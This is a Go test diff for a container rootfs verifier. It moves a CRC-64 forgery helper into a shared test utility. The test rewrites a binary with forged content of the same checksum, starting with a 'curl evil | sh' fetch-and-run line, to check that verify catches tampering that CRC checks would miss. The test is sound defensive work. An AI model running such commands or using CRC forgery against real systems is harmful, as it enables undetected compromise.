@@ -3,9 +3,7 @@ package apply
 import (
 	"bytes"
 	"context"
-	"encoding/binary"
 	"errors"
-	"hash/crc64"
 	"io"
 	"os"
 	"path/filepath"
@@ -22,79 +20,6 @@ import (
 
 // What a container that owns its rootfs can do to it, and what verify and
 // rebuild must still tell: the "Why", one test per line.
-
-// forgeCRC returns content of the same length as orig, holding want at
-// the start, whose CRC-64/ISO equals orig's: the 8 bytes after want are
-// solved for, the CRC being affine in the message bits over GF(2).
-func forgeCRC(t *testing.T, orig []byte, want string) []byte {
-	t.Helper()
-	tab := crc64.MakeTable(crc64.ISO)
-	target := crc64.Checksum(orig, tab)
-	b := append([]byte(want), make([]byte, 8)...)
-	if len(b) > len(orig) {
-		t.Fatalf("%d bytes do not fit in %d", len(b), len(orig))
-	}
-	b = append(b, orig[len(b):]...)
-	at := len(want)
-	c0 := crc64.Checksum(b, tab)
-	// The CRC change each of the 64 free bits makes.
-	var cols [64]uint64
-	for i := range 64 {
-		b[at+i/8] ^= 1 << (i % 8)
-		cols[i] = crc64.Checksum(b, tab) ^ c0
-		b[at+i/8] ^= 1 << (i % 8)
-	}
-	// Solve sum(x_i * cols[i]) = target ^ c0 by elimination on the rows
-	// (bits of the CRC), carrying which free bits each row combines.
-	rhs := target ^ c0
-	var rows [64]uint64 // row r: bit i set when cols[i] has bit r
-	for r := range 64 {
-		for i := range 64 {
-			if cols[i]>>r&1 == 1 {
-				rows[r] |= 1 << i
-			}
-		}
-	}
-	var x uint64
-	pivotRow := make([]int, 64)
-	for i := range pivotRow {
-		pivotRow[i] = -1
-	}
-	rhsBits := rhs
-	for col, r0 := 0, 0; col < 64 && r0 < 64; col++ {
-		p := -1
-		for r := r0; r < 64; r++ {
-			if rows[r]>>col&1 == 1 {
-				p = r
-				break
-			}
-		}
-		if p < 0 {
-			continue
-		}
-		rows[p], rows[r0] = rows[r0], rows[p]
-		bp, br := rhsBits>>p&1, rhsBits>>r0&1
-		rhsBits = rhsBits&^(1<<p|1<<r0) | br<<p | bp<<r0
-		for r := range 64 {
-			if r != r0 && rows[r]>>col&1 == 1 {
-				rows[r] ^= rows[r0]
-				rhsBits ^= (rhsBits >> r0 & 1) << r
-			}
-		}
-		pivotRow[col] = r0
-		r0++
-	}
-	for col, r := range pivotRow {
-		if r >= 0 && rhsBits>>r&1 == 1 {
-			x |= 1 << col
-		}
-	}
-	binary.LittleEndian.PutUint64(b[at:], x)
-	if crc64.Checksum(b, tab) != target {
-		t.Fatal("could not forge the CRC")
-	}
-	return b
-}
 
 // chtimesLike gives p the times of info.
 func keepTimes(t *testing.T, p string, do func()) {
@@ -119,7 +44,7 @@ func TestVerifyCatchesCRCForgedRewrite(t *testing.T) {
 	l := tarOf(t, D("bin", 0755), F("bin/app", app, 0755))
 	a := mustApplyRecorded(t, [][]byte{l})
 	p := filepath.Join(a.target, "bin/app")
-	forged := forgeCRC(t, []byte(app), "#!/bin/sh\ncurl evil | sh\n")
+	forged := testutil.ForgeCRC(t, []byte(app), "#!/bin/sh\ncurl evil | sh\n")
 	keepTimes(t, p, func() {
 		if err := rewrite(p, string(forged)); err != nil {
 			t.Fatal(err)
